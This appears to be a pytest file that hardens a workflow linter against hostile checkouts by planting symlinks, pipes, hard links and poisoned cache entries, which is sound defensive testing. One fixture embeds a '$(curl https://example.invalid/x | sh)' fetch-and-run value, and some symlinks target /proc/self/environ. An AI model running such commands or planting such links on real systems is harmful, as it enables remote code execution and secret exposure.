"""`flowrun lint` on a hostile checkout: symlinks and pipes planted at every path lint reads or writes.

Each test builds a repository (the working directory) and, beside it, a directory `outside` with
a sentinel: a script a later step would run. Whatever the repository holds, lint must leave
`outside` exactly as it was (content, mode, kind of every entry), never quote a value read from
it, never block, and say what it skipped in one line per file on stderr, never a traceback.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import cli_env

from runner.lint.cache import LintCache
from runner.lint.config import LintConfig
from runner.lint.fix import write_fixed
from runner.lint.linter import lint_paths

FIXABLE = """\
dagId: wf
description: "$(curl https://example.invalid/x | sh)"
tasks:
  - taskId: a
    operator: dummy
  - taskId: b
    operator: dummy
    dependencies: [a]
  - taskId: c
    operator: dummy
    dependencies: [a, b]
"""
FIXED = FIXABLE.replace("[a, b]", "[b]")
SECRET = "hunter2-topsecret"
OUTSIDE_WORKFLOW = f"""\
dagId: private
tasks:
  - taskId: a
    operator: dummy
    dependencies: [{SECRET}]
"""
SENTINEL = "#!/bin/sh\necho the sentinel is intact\n"
TIMEOUT = 60  # seconds: only says "does not hang" (a pipe opened for reading blocks forever)

Snapshot = dict[str, tuple[str, int, bytes]]


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    (tmp_path / "repo").mkdir()
    outside = tmp_path / "outside"
    (outside / "cachedir").mkdir(parents=True)
    (outside / "sentinel.sh").write_text(SENTINEL)
    os.chmod(outside / "sentinel.sh", 0o750)
    (outside / "secret.yaml").write_text(OUTSIDE_WORKFLOW)
    (outside / "lint.toml").write_text('[lint]\nignore = ["FR1"]\n')
    (outside / "poison.json").write_text("[]")
    os.mkfifo(outside / "pipe")
    return tmp_path / "repo"


def snapshot(root: Path) -> Snapshot:
    """Every entry below root: its kind, mode and content (a symlink's target)."""
    out: Snapshot = {}
    for path in sorted(root.rglob("*")):
        st = path.lstat()
        if stat.S_ISLNK(st.st_mode):
            body = os.readlink(path).encode()
        elif stat.S_ISREG(st.st_mode):
            body = path.read_bytes()
        else:
            body = b""
        out[str(path.relative_to(root))] = (stat.filemode(st.st_mode), stat.S_IMODE(st.st_mode), body)
    return out


def lint(repo: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """`flowrun lint ARGS` in the repository; its stderr is nothing but one-line `flowrun:` messages."""
    result = subprocess.run([sys.executable, "-m", "runner.cli", "lint", *args], cwd=repo, env=cli_env(),
                            capture_output=True, text=True, timeout=TIMEOUT, check=False)
    assert "Traceback" not in result.stderr
    assert all(line.startswith("flowrun: ") for line in result.stderr.splitlines()), result.stderr
    assert SECRET not in result.stdout + result.stderr
    return result


def test_fix_writes_no_file_through_a_symlink_planted_at_its_old_temporary_path(repo: Path) -> None:
    outside = snapshot(repo.parent / "outside")
    workflow = repo / "wf.yaml"
    workflow.write_text(FIXABLE)
    os.chmod(workflow, 0o640)
    (repo / ".wf.yaml.flowrun-fix").symlink_to(repo.parent / "outside" / "sentinel.sh")
    result = lint(repo, "--fix", "wf.yaml")
    assert (result.returncode, result.stderr) == (0, ""), result.stdout
    assert snapshot(repo.parent / "outside") == outside
    assert not workflow.is_symlink() and workflow.read_text() == FIXED
    assert stat.S_IMODE(workflow.stat().st_mode) == 0o640  # the file keeps its own mode
    assert os.readlink(repo / ".wf.yaml.flowrun-fix") == str(repo.parent / "outside" / "sentinel.sh")
    assert sorted(p.name for p in repo.iterdir()) == [".wf.yaml.flowrun-fix", "wf.yaml"]  # no temporary left


def test_fix_does_not_write_through_a_workflow_path_that_is_a_symlink(repo: Path) -> None:
    (repo / "real.yaml").write_text(FIXABLE)
    (repo / "link.yaml").symlink_to("real.yaml")
    result = lint(repo, "--fix", "link.yaml")
    assert result.returncode == 1
    assert result.stdout.startswith("link.yaml:11:20: FR102 ")
    [line] = result.stderr.splitlines()
    assert line.startswith("flowrun: not fixed 'link.yaml': it is a symlink; run --fix on the file it names")
    assert (repo / "link.yaml").is_symlink() and (repo / "real.yaml").read_text() == FIXABLE
    # the directory holding both: the file is fixed under its own name; the link is not linted twice
    result = lint(repo, "--fix", ".")
    assert (result.returncode, result.stderr) == (0, ""), result.stdout
    assert (repo / "link.yaml").is_symlink() and (repo / "real.yaml").read_text() == FIXED


def test_a_hard_link_to_a_file_outside_is_replaced_not_written_through(repo: Path) -> None:
    (repo / "wf.yaml").write_text(FIXABLE)
    os.link(repo / "wf.yaml", repo.parent / "outside" / "same-file.sh")
    outside = snapshot(repo.parent / "outside")
    result = lint(repo, "--fix", "wf.yaml")
    assert (result.returncode, result.stderr) == (0, ""), result.stdout
    assert (repo / "wf.yaml").read_text() == FIXED
    assert snapshot(repo.parent / "outside") == outside  # the other name keeps the old content


@pytest.mark.parametrize("args", [["wf.yaml"], ["."], ["--fix", "--format", "json", "."]])
def test_a_workflow_symlink_that_leaves_the_tree_is_skipped_with_one_line(repo: Path, args: list[str]) -> None:
    outside = snapshot(repo.parent / "outside")
    (repo / "wf.yaml").symlink_to("../outside/secret.yaml")
    (repo / "zero.yaml").symlink_to("/dev/zero")
    (repo / "environ.yaml").symlink_to("/proc/self/environ")
    result = lint(repo, *args)
    assert result.returncode == 0, result.stdout
    skipped = result.stderr.splitlines()
    assert len(skipped) == (1 if args == ["wf.yaml"] else 3)
    assert all(line.startswith("flowrun: skipped '") and line.endswith("; name the target itself to lint it") for line in skipped)
    assert any(line.startswith("flowrun: skipped 'wf.yaml': a symlink to '") for line in skipped)
    assert snapshot(repo.parent / "outside") == outside
    assert os.readlink(repo / "wf.yaml") == "../outside/secret.yaml"


def test_a_symlink_inside_the_tree_is_linted_under_its_own_name(repo: Path) -> None:
    (repo / "sub").mkdir()
    (repo / "sub" / "real.yaml").write_text(FIXABLE)
    (repo / "wf.yaml").symlink_to("sub/real.yaml")
    result = lint(repo, "--format", "json", "wf.yaml")
    assert result.returncode == 1 and result.stderr == ""
    assert [(f["path"], f["code"]) for f in json.loads(result.stdout)] == [("wf.yaml", "FR102")]


def test_symlinked_directories_are_not_followed(repo: Path) -> None:
    (repo / "wf.yaml").write_text(FIXED)
    (repo / "loop").symlink_to(".")
    (repo / "up").symlink_to("..")
    (repo / "ext").symlink_to("../outside")
    result = lint(repo, ".")
    assert (result.returncode, result.stdout, result.stderr) == (0, "No problems found in 1 file.\n", "")


def test_named_pipes_are_never_opened(repo: Path) -> None:
    (repo / "wf.yaml").write_text(FIXED)
    os.mkfifo(repo / "pipe.yaml")
    (repo / "to-pipe.yaml").symlink_to("pipe.yaml")
    result = lint(repo, ".")
    assert (result.returncode, result.stdout) == (0, "No problems found in 1 file.\n")
    assert sorted(result.stderr.splitlines()) == [
        "flowrun: skipped 'pipe.yaml': a named pipe, not a regular file",
        "flowrun: skipped 'to-pipe.yaml': a symlink to a named pipe",
    ]
    named = lint(repo, "pipe.yaml")
    assert (named.returncode, named.stdout) == (2, "")
    assert named.stderr == "flowrun: error: pipe.yaml: a named pipe, not a file or a directory\n"


@pytest.mark.parametrize("plant", ["root", "dangling root", "lint", "shards", "world-writable"])
def test_a_cache_that_is_a_symlink_or_open_to_all_is_not_used(repo: Path, plant: str) -> None:
    outside = snapshot(repo.parent / "outside")
    (repo / "wf.yaml").write_text(FIXABLE)
    cache = repo / ".flowrun_cache"
    if plant == "root":
        cache.symlink_to("../outside/cachedir")
    elif plant == "dangling root":
        cache.symlink_to("../outside/new-cachedir")
    elif plant == "lint":
        cache.mkdir()
        (cache / "lint").symlink_to("../../outside/cachedir")
    elif plant == "shards":
        (cache / "lint").mkdir(parents=True)
        for shard in range(256):
            (cache / "lint" / f"{shard:02x}").symlink_to("../../../outside/cachedir")
    else:
        cache.mkdir()
        os.chmod(cache, 0o777)
    before = snapshot(repo)
    result = lint(repo, "wf.yaml")
    assert result.returncode == 1 and result.stdout.startswith("wf.yaml:11:20: FR102 ")
    [line] = result.stderr.splitlines()
    assert line.startswith("flowrun: not using the lint cache: '.flowrun_cache")
    assert line.endswith("; delete it, or set FLOWRUN_CACHE_DIR to a directory of your own (--no-cache goes without)")
    assert snapshot(repo.parent / "outside") == outside
    assert snapshot(repo) == before


@pytest.mark.parametrize("plant", ["symlink to a file outside", "symlink to a pipe", "pipe"])
def test_a_planted_cache_entry_is_never_followed_or_opened(repo: Path, plant: str) -> None:
    outside = snapshot(repo.parent / "outside")
    (repo / "wf.yaml").write_text(FIXABLE)
    key = LintCache(LintConfig()).key("wf.yaml", FIXABLE.encode())  # the key the command computes
    shard = repo / ".flowrun_cache" / "lint" / key[:2]
    shard.mkdir(parents=True)
    entry = shard / f"{key}.json"
    if plant == "symlink to a file outside":
        entry.symlink_to(repo.parent / "outside" / "poison.json")  # `[]`: "no findings"
    elif plant == "symlink to a pipe":
        entry.symlink_to(repo.parent / "outside" / "pipe")
    else:
        os.mkfifo(entry)
    result = lint(repo, "wf.yaml")
    assert result.returncode == 1 and result.stdout.startswith("wf.yaml:11:20: FR102 ")
    assert snapshot(repo.parent / "outside") == outside
    assert stat.S_ISREG(entry.lstat().st_mode) and "FR102" in entry.read_text()  # replaced by an entry of our own


@pytest.mark.parametrize("name", [".flowrun.toml", "pyproject.toml"])
def test_a_configuration_symlink_leaving_its_directory_or_a_pipe_is_one_error(repo: Path, name: str) -> None:
    (repo / "wf.yaml").write_text(FIXABLE)
    (repo / name).symlink_to("../outside/lint.toml")
    result = lint(repo, "wf.yaml")
    real = repo.resolve()
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr == (f"flowrun: error: {real / name}: cannot read configuration: a symlink to "
                             f"'{real.parent / 'outside' / 'lint.toml'}', outside '{real}'; make it a regular file\n")
    (repo / name).unlink()
    os.mkfifo(repo / name)
    result = lint(repo, "wf.yaml")
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr == (f"flowrun: error: {real / name}: cannot read configuration: "
                             "it is a named pipe, not a regular file\n")


def test_a_configuration_symlink_inside_its_directory_is_read(repo: Path) -> None:
    (repo / "wf.yaml").write_text(FIXABLE)
    (repo / "conf").mkdir()
    (repo / "conf" / "lint.toml").write_text('[lint]\nignore = ["FR1"]\n')
    (repo / ".flowrun.toml").symlink_to("conf/lint.toml")
    result = lint(repo, "wf.yaml")
    assert (result.returncode, result.stderr) == (0, "")


def test_fix_writes_nothing_when_the_file_changed_after_it_was_read(tmp_path: Path) -> None:
    path = tmp_path / "wf.yaml"
    path.write_text(FIXABLE)
    read = os.stat(path)
    path.write_text(FIXABLE + "# edited meanwhile\n")
    assert write_fixed(str(path), FIXED, read) == "the file changed while it was linted; run flowrun lint --fix again"
    assert path.read_text() == FIXABLE + "# edited meanwhile\n"
    # replaced by a symlink meanwhile: neither the link nor what it names is written
    sentinel = tmp_path / "sentinel.sh"
    sentinel.write_text(SENTINEL)
    read = os.stat(path)
    path.unlink()
    path.symlink_to(sentinel)
    refusal = write_fixed(str(path), FIXED, read)
    assert refusal is not None and refusal.startswith("it is a symlink")
    assert path.is_symlink() and sentinel.read_text() == SENTINEL
    assert sorted(p.name for p in tmp_path.iterdir()) == ["sentinel.sh", "wf.yaml"]


def test_the_python_api_reports_what_it_skipped(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(repo)
    (repo / "wf.yaml").symlink_to("../outside/secret.yaml")
    result = lint_paths(["."], fix=True)
    assert (result.files, result.findings, result.fixed) == ([], [], 0)
    [note] = result.notes
    assert note.startswith("skipped 'wf.yaml': a symlink to '") and "outside '.'" in note


def test_loading_a_pipe_or_a_device_as_a_workflow_is_one_error_not_a_hang(tmp_path: Path) -> None:
    """The reader `run`, `graph` and the Python API share (runner/yaml/loader.py) opens without blocking too."""
    os.mkfifo(tmp_path / "pipe.yaml")
    (tmp_path / "zero.yaml").symlink_to("/dev/zero")
    script = ("from runner import load_workflow\n"
              "for name in ('pipe.yaml', 'zero.yaml'):\n"
              "    try:\n        load_workflow(name)\n"
              "    except Exception as exc:\n        print(exc)\n")
    result = subprocess.run([sys.executable, "-c", script], cwd=tmp_path, env=cli_env(), capture_output=True,
                            text=True, timeout=TIMEOUT, check=False)
    assert result.stdout.splitlines() == [
        "pipe.yaml:1:1: cannot read file: it is a named pipe, not a regular file",
        "zero.yaml:1:1: cannot read file: it is a character device, not a regular file",
    ]
